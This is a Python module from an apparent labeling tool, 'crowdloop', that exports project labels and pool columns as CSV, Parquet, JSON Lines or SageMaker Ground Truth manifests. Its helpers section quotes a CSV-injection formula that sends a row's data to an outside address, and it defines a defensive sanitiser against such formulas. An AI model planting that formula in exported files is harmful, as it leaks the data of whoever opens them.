"""Labels out of a project: ``labels.jsonl`` and ``crowdloop export``.

``labels.jsonl`` in a project (written by ``crowdloop.report.write_outputs``) holds the
latest aggregated human labels, the imported seed labels and, with auto-labeling, the machine
labels of the latest model for items no human labeled; each line says which it is.

``crowdloop export`` writes one row per labeled pool item — item id, label, source (``human``,
``imported``, ``copied`` — the label of an earlier item that shows the same thing, asked once
(``pool.duplicates``) —, ``machine``), confidence, number of judgments and the pool's own columns — as
CSV, Parquet, JSON Lines, or a SageMaker Ground Truth output manifest: a label attribute named
after the job holding the class index, its ``<attribute>-metadata`` (class-name, confidence,
type, job-name, human-annotated, creation-date), ``source-ref`` for images in files and
``source`` for texts, the task type by pool kind. It exports the last *finished* round (one
whose pay record exists), so exporting a running project never shows half a round.
"""

from __future__ import annotations

import io
import json
import math
import os
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

from crowdloop import keys
from crowdloop.engine.project import Project
from crowdloop.errors import ConfigError, CrowdloopError, PoolError
from crowdloop.label_files import as_written
from crowdloop.records import AggregatedLabel

FORMATS = ("csv", "parquet", "jsonl", "gt-manifest")
EXTENSIONS = {"csv": "csv", "parquet": "parquet", "jsonl": "jsonl", "gt-manifest": "manifest"}
FIXED_COLUMNS = ("item_id", "label", "source", "confidence", "n_judgments")
UTF8_BOM = b"\xef\xbb\xbf"


def export_labels_manifest(p: Project) -> bytes:
    """Aggregated labels as JSON Lines in SageMaker Ground Truth output-manifest form."""
    rounds = p.rounds()
    after_last = (rounds[-1] + 1) if rounds else 0
    labels = p.known_labels(before_round=after_last)
    if p.config.autolabel.enabled:  # machine labels of the latest model, for items no human labeled
        human = {label.item_id for label in labels}
        labels = labels + [label for label in p.machine_labels(before_round=after_last) if label.item_id not in human]
    class_index = {c: i for i, c in enumerate(p.classes)}
    last_answer = _last_answers(p)
    buf = io.StringIO()
    for label in labels:
        buf.write(json.dumps({
            "source": label.item_id,
            "item-id": label.item_id,
            "label": class_index[label.label],
            "label-metadata": {
                "class-name": label.label, "confidence": label.confidence,
                "human-annotated": "yes" if label.source != "machine" else "no",
                "creation-date": last_answer.get(label.item_id), "type": "groundtruth/text-classification",
                "job-name": f"crowdloop-{p.config.project}",
                "n-annotations": label.n_annotations, "method": label.method, "source": label.source, "round": label.round,
            },
        }) + "\n")
    return buf.getvalue().encode()


@dataclass(frozen=True)
class Export:
    """What ``export_labels`` produced."""

    data: bytes
    n_rows: int
    by_source: dict[str, int]
    finished_round: int | None  # the last round whose labels are in it (None: no round finished yet)
    without_pool: str | None = None  # why the pool's columns are missing (its file could not be read), else None


def check_options(fmt: str, *, spreadsheet_safe: bool = False) -> None:
    """The export's options, checked before a project is opened (the CLI) or read."""
    if fmt not in FORMATS:
        raise ConfigError(f"--format {fmt!r}: expected one of {', '.join(FORMATS)}")
    if spreadsheet_safe and fmt != "csv":
        raise ConfigError(f"--spreadsheet-safe: for --format csv, which spreadsheets open; not for {fmt!r}")


def last_finished_round(p: Project) -> int | None:
    """The last round that has paid (its labels are final), or None."""
    done = [r for r in p.rounds() if p.has(r, keys.PAY)]
    return done[-1] if done else None


def export_labels(p: Project, fmt: str, *, machine: bool = False, spreadsheet_safe: bool = False) -> Export:
    """The project's labels as of the last finished round, in ``fmt`` (one of ``FORMATS``).

    Human labels (training and audit items), imported seed labels and, with ``machine``, a
    machine label for every other pool item: the auto-label where auto-labeling gave one, else
    the prediction of the latest model trained on these labels, with its probability as the
    confidence. Gold items are never exported: their answers are the team's own file.
    ``spreadsheet_safe`` (csv only): see ``spreadsheet_text``.
    """
    check_options(fmt, spreadsheet_safe=spreadsheet_safe)
    without_pool = None
    try:
        order = p.index_of
    except PoolError as exc:  # the pool file moved or went: the labels bought are in the store all the same
        if machine or fmt == "gt-manifest":
            raise PoolError(f"{exc}; {'--machine' if machine else 'the gt-manifest format'} needs the pool: restore "
                            "it there, or export csv, parquet or jsonl (the labels without the pool's columns)") from None
        order, without_pool = {}, str(exc)
    finished = last_finished_round(p)
    after = -1 if finished is None else finished
    rows: dict[str, dict[str, Any]] = {}
    for label in p.seed_labels:
        rows[label.item_id] = _row(label.item_id, label.label, "imported", label.confidence, label.n_annotations)
    if finished is not None:
        for label in p.round_labels(finished, keys.LABELS) or []:
            source = "reviewed" if label.source == "reviewed" else "human"  # reviewed: a reviewer's correction
            rows[label.item_id] = _row(label.item_id, label.label, source, label.confidence, label.n_annotations)
        from crowdloop.engine.auditing import audit_labels

        for a in audit_labels(p, finished + 1).values():
            rows[a.item_id] = _row(a.item_id, a.label, a.source, max(a.proba.values(), default=1.0), a.n_annotations)
    if without_pool is None:  # a copy of an item (pool.duplicates: ask_once) shows what it shows: its label
        for copy, original in sorted(p.copies.items()):
            if original in rows and copy not in rows:
                found = rows[original]
                rows[copy] = _row(copy, found["label"], "copied", found["confidence"], 0)
    if machine:
        for label in _machine_labels(p, after, skip=set(rows) | set(p.gold_set)):
            rows[label.item_id] = _row(label.item_id, label.label, "machine", label.confidence, 0)
    ordered = sorted(rows.values(), key=lambda row: (order.get(row["item_id"], -1), row["item_id"]))
    if without_pool is None:
        extra = _pool_columns(p, [row["item_id"] for row in ordered])
        for row, more in zip(ordered, extra, strict=True):
            row.update(more)
    by_source: dict[str, int] = {}
    for row in ordered:
        by_source[row["source"]] = by_source.get(row["source"], 0) + 1
    if spreadsheet_safe:
        ordered = [{k: spreadsheet_text(v) for k, v in row.items()} for row in ordered]
    data = _encode(p, ordered, fmt)
    if spreadsheet_safe:  # Excel reads a CSV without a byte-order mark in the machine's code page: 'café' as 'cafÃ©'
        data = UTF8_BOM + data
    return Export(data, len(ordered), by_source, finished, without_pool)


def write_export(p: Project, out: str | None, fmt: str, *, machine: bool = False,
                 spreadsheet_safe: bool = False) -> tuple[Export, str]:
    """Export to ``out`` (a local path or a store URL such as ``s3://bucket/labels.csv``) in one
    atomic write: a reader sees the old file or the whole new one, never a part. Returns what was
    written and where (``export_target``)."""
    from crowdloop.storage import open_store, store_scheme

    target = export_target(p, out, fmt)
    done = export_labels(p, fmt, machine=machine, spreadsheet_safe=spreadsheet_safe)
    if store_scheme(target) == "file":
        open_store(str(Path(target).parent)).write_bytes(Path(target).name, done.data)
    else:
        base, sep, query = target.partition("?")  # s3://bucket/labels.csv?endpoint_url=...
        parent, _, name = base.rpartition("/")
        open_store(parent + sep + query).write_bytes(name, done.data)
    return done, target


def export_target(p: Project, out: str | None, fmt: str) -> str:
    """Where ``--out`` writes: the file or URL as given, or the default name inside a folder — an
    existing local folder, or any path or URL ending in '/' (as ``cp`` does). A local path is made
    absolute first: ``/labels.csv`` once landed in the working folder as ``labels.csv``, and
    ``--out /tmp`` overwrote a file ``./tmp`` while saying it wrote to /tmp."""
    from crowdloop.storage import join_url, local_path, store_scheme

    if out is None:
        out = default_export_name(p, fmt)
    scheme = store_scheme(out)
    if scheme != "file":
        base = out.partition("?")[0]
        if base.endswith("/"):
            return join_url(out, default_export_name(p, fmt))
        bucket, _, name = base.partition("://")[2].rpartition("/")
        if not bucket or not name:
            raise CrowdloopError(f"--out {out!r}: expected a file name after the bucket, e.g. {scheme}://bucket/labels.csv")
        return out
    path = local_path(out)
    if out.endswith(("/", os.sep)) or path.is_dir():
        path = path / default_export_name(p, fmt)
    return str(path)


def default_export_name(p: Project, fmt: str) -> str:
    return f"{p.config.project}-labels.{EXTENSIONS[fmt]}"


# -- helpers -----------------------------------------------------------------------------------


# A cell a spreadsheet reads as a formula (OWASP "CSV injection"): '=HYPERLINK("http://...?"&A2)' in a
# pool's text, opened in Excel or LibreOffice, runs and can send the row elsewhere.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: Any) -> Any:
    """A text cell that a spreadsheet would run as a formula, prefixed with ``'`` so it is shown as
    the text it is; numbers and other text unchanged. Opt-in (``--spreadsheet-safe``): the prefix
    is data to a program reading the file."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _row(item: str, label: str, source: str, confidence: float, n: int) -> dict[str, Any]:
    return {"item_id": item, "label": label, "source": source, "confidence": round(float(confidence), 6), "n_judgments": n}


def _machine_labels(p: Project, finished: int, skip: set[str]) -> list[AggregatedLabel]:
    """A label for every pool item not in ``skip``: auto-labels of the finished rounds first, then
    the latest model's predictions (trained on the exported labels or fewer)."""
    out = [label for label in p.machine_labels(before_round=finished + 1) if label.item_id not in skip]
    skip = skip | {label.item_id for label in out}
    model_round = next((r for r in range(finished + 1, -1, -1) if p.load_model(r) is not None), None)
    if model_round is None:
        return out
    model = p.load_model(model_round)
    rows = np.array([i for i, item in enumerate(p.pool.ids.tolist()) if item not in skip], dtype=np.int64)
    classes = [str(c) for c in model.classes_]
    chunk = p.config.sampler.chunk_size
    for start in range(0, len(rows), chunk):
        part = rows[start:start + chunk]
        proba = model.predict_proba(p.pool.X[part])
        best = proba.argmax(axis=1)
        out += [AggregatedLabel(item_id=str(p.pool.ids[i]), label=classes[b], confidence=round(float(row[b]), 6),
                                n_annotations=0, method=f"model of round {model_round}", source="machine", round=model_round)
                for i, b, row in zip(part, best, proba, strict=True)]
    return out


def _pool_columns(p: Project, items: list[str]) -> list[dict[str, Any]]:
    """Each item's own columns: the pool file's row (CSV/Parquet pools), else its text or image
    path, or its features for a tabular pool. Pool columns named like an export column get ``pool_``."""
    cfg = p.config.pool
    if cfg.source in ("csv", "parquet"):
        import pandas as pd

        frame = (pd.read_parquet(cfg.path) if cfg.source == "parquet"
                 else pd.read_csv(cfg.path, dtype=as_written(cfg.id_column, enabled=cfg.ids_as_written)))
        ids = frame[cfg.id_column].astype(str) if cfg.id_column else pd.Series([f"row-{i:07d}" for i in range(len(frame))])
        frame = frame.drop(columns=[cfg.id_column]) if cfg.id_column else frame
        frame.index = ids.tolist()
        frame.columns = [f"pool_{c}" if c in FIXED_COLUMNS else str(c) for c in frame.columns]
        records = frame.to_dict(orient="index")
        return [{k: _plain(v) for k, v in records.get(item, {}).items()} for item in items]
    rows = p.rows_of(items) if items else np.zeros(0, dtype=np.int64)
    pool = p.pool
    if pool.content_kind in ("text", "image") and pool.content is not None:
        return [{pool.content_kind: str(pool.content[i])} for i in rows]
    if pool.content_kind is None and len(pool.feature_names) <= 200:
        names = [f"pool_{n}" if n in FIXED_COLUMNS else n for n in pool.feature_names]
        return [dict(zip(names, (float(v) for v in pool.X[i]), strict=True)) for i in rows]
    return [{} for _ in rows]


def _plain(value: Any) -> Any:
    """Numpy scalars as Python ones; NaN as None (JSON has no NaN)."""
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, float) and math.isnan(value):
        return None
    return value


def _encode(p: Project, rows: list[dict[str, Any]], fmt: str) -> bytes:
    if fmt == "jsonl":
        return b"".join(json.dumps(row).encode() + b"\n" for row in rows)
    if fmt == "gt-manifest":
        return _gt_manifest(p, rows)
    import pandas as pd

    frame = pd.DataFrame(rows, columns=list(dict.fromkeys([*FIXED_COLUMNS, *(k for row in rows for k in row)])))
    if fmt == "csv":
        return frame.to_csv(index=False).encode()
    buf = io.BytesIO()
    frame.to_parquet(buf, index=False)
    return buf.getvalue()


def _gt_manifest(p: Project, rows: list[dict[str, Any]]) -> bytes:
    """SageMaker Ground Truth output manifest lines (image classification for image pools, text
    classification for text pools; tabular pools, which Ground Truth has no task type for, say
    ``crowdloop/tabular-classification``). Fields crowdloop adds ride as extra keys, as Ground
    Truth passes any key of the input manifest through."""
    attribute = p.config.project
    if attribute.endswith(("-ref", "-metadata")):
        attribute += "-label"
    kind = p.pool.content_kind
    task = {"image": "image-classification", "pixels": "image-classification",
            "text": "text-classification"}.get(kind or "")
    task_type = f"groundtruth/{task}" if task else "crowdloop/tabular-classification"
    class_index = {c: i for i, c in enumerate(p.classes)}
    stamps = _last_answers(p)
    if any(row["source"] == "reviewed" for row in rows):  # a reviewer's label was made when it was corrected
        from crowdloop.corrections import latest

        stamps.update({item: c.at.isoformat() for item, c in latest(p).items()})
    if any(row["source"] == "copied" for row in rows):  # a copy's label was made when the item it copies was answered
        stamps.update(_copies_stamps(p, stamps))
    fixed = set(FIXED_COLUMNS) | {"text", "image"}
    buf = io.StringIO()
    for row in rows:
        item = row["item_id"]
        line: dict[str, Any] = {}
        content = p.pool.content[p.index_of[item]] if p.pool.content is not None and item in p.index_of else None
        if kind == "image" and content:
            line["source-ref"] = str(content)  # the image file or s3:// object the pool names
        else:
            line["source"] = str(content) if kind == "text" and content is not None else item
        line["item-id"] = item
        line[attribute] = class_index[row["label"]]
        line[f"{attribute}-metadata"] = {
            "class-name": row["label"], "confidence": row["confidence"], "type": task_type,
            "job-name": f"labeling-job/{attribute}", "human-annotated": "no" if row["source"] == "machine" else "yes",
            "creation-date": stamps.get(item),
        }
        line["crowdloop-source"] = row["source"]
        line["crowdloop-judgments"] = row["n_judgments"]
        line.update({k: v for k, v in row.items() if k not in fixed and k not in line})
        buf.write(json.dumps(line) + "\n")
    return buf.getvalue().encode()


def _copies_stamps(p: Project, stamps: dict[str, str]) -> dict[str, str]:
    """Each copy (``pool.duplicates: ask_once``) with no answer of its own -> the latest answer
    time among the items showing the same thing: its label is theirs."""
    copies = p.copies
    latest_of_group: dict[str, str] = {}
    for item, stamp in stamps.items():
        group = copies.get(item, item)
        latest_of_group[group] = max(stamp, latest_of_group.get(group, ""))
    return {copy: latest_of_group[group] for copy, group in copies.items()
            if copy not in stamps and group in latest_of_group}


def _last_answers(p: Project) -> dict[str, str]:
    """Each item's latest answer time (ISO 8601), as Ground Truth's creation-date."""
    last: dict[str, str] = {}
    for a in p.annotations():
        stamp = a.submitted_at.isoformat()
        if stamp > last.get(a.item_id, ""):
            last[a.item_id] = stamp
    return last
